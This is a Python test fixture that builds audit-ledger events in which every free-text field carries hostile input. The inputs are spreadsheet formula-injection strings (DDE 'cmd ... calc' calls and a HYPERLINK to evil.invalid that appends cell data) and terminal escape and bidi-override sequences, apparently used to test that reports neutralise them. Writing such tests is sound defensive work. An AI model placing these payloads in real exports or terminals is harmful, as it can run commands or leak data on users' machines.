"""Events an attacker would send: every free-text field a payload aimed at a spreadsheet or a terminal.

Identifiers cannot carry control or invisible characters (the validator
refuses them), but they can still begin with ``=`` or ``@``: those are used
as ids here. Free text carries everything: formulas, ANSI/OSC escapes, BEL,
CR, C1 controls, bidi overrides and zero-width characters.
"""

from __future__ import annotations

import uuid
from itertools import cycle

from ledger.model.events import validate as _validate

# What a spreadsheet takes as the start of a formula (OWASP), and the full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

TERMINAL_ATTACK = ("\x1b[2J\x1b[H\x1b]8;;https://evil.invalid/\x07click\x1b]8;;\x07\x07\rOK\x9b31m"
                   "\u202etxt.exe\u200b\u2066\ufeff\u2028\U000e0041\x7f")
VICTIM = "@cust-victim-13"
OTHER = "=cust-other-7"


def validate(event: dict) -> dict:
    """Validated, with an event id fixed by type so every call gives the same events."""
    return _validate({**event, "event_id": str(uuid.uuid5(uuid.NAMESPACE_URL, "hostile/" + event["type"]))})


def payloads():
    """Hostile free text, each starting with a different formula trigger."""
    starts = ['=HYPERLINK("https://evil.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]
    return (s + TERMINAL_ATTACK for s in cycle(starts))


def hostile_events() -> list[dict]:
    """One event of each type that reaches a customer's report, every free-text field hostile."""
    text = payloads()

    def actor(kind="EMPLOYEE"):
        return {"id": "=emp-1007", "type": kind, "role": next(text), "organization": next(text)}

    def recipient(kind="ADVERTISER", country="US"):
        return {"id": "@rcpt-evil", "name": next(text), "kind": kind, "country": country, "address": next(text)}

    def justification():
        return {"reason_code": next(text), "ticket": next(text), "note": next(text)}

    common = {"source_service": "=svc-evil", "subject_ids": [VICTIM, OTHER], "correlation_id": "=corr-1",
              "trace_id": "+trace-1", "recorded_by": "@recorder", "attributes": {"k": next(text)}}
    disclosure = validate({
        **common, "type": "LegalDisclosure", "occurred_at": "2026-02-03T10:00:00Z", "actor": actor(),
        "data_categories": ["user.contact.email"], "purpose": "legal.obligation", "legal_basis": "LEGAL_OBLIGATION",
        "justification": justification(), "reviewed_by": "=legal-3",
        "request": {"id": "=REQ-1", "kind": "SUBPOENA", "authority": next(text), "jurisdiction": next(text),
                    "case_ref": next(text), "document_ref": next(text), "received_at": "2026-02-01T09:00:00Z"},
        "requested_categories": ["user.contact.email"], "recipient": recipient("REGULATOR", "DE"),
        "notification": {"status": "PENDING", "due_by": "2026-02-10T00:00:00Z", "order_ref": next(text),
                         "reason": next(text)},
    })
    return [
        validate({**common, "type": "DataAccessed", "occurred_at": "2026-02-01T10:00:00Z", "actor": actor(),
                  "data_categories": ["user.contact.email"], "purpose": "marketing.email",
                  "justification": justification(), "access_type": "VIEW", "outcome": "GRANTED",
                  "channel": next(text)}),
        validate({**common, "type": "DataShared", "occurred_at": "2026-02-02T10:00:00Z", "actor": actor(),
                  "data_categories": ["user.contact.email"], "purpose": "marketing.advertising",
                  "legal_basis": "LEGITIMATE_INTERESTS", "justification": justification(),
                  "recipient": recipient(), "transfer_safeguard": next(text), "agreement_ref": next(text),
                  "retention_until": "2027-01-01T00:00:00Z"}),
        disclosure,
        validate({**common, "type": "SubjectNotified", "occurred_at": "2026-02-04T10:00:00Z", "actor": actor(),
                  "subject_ids": [OTHER], "disclosure_event_id": disclosure["event_id"],
                  "notified_at": "2026-02-04T10:00:00Z", "channel": next(text)}),
    ]
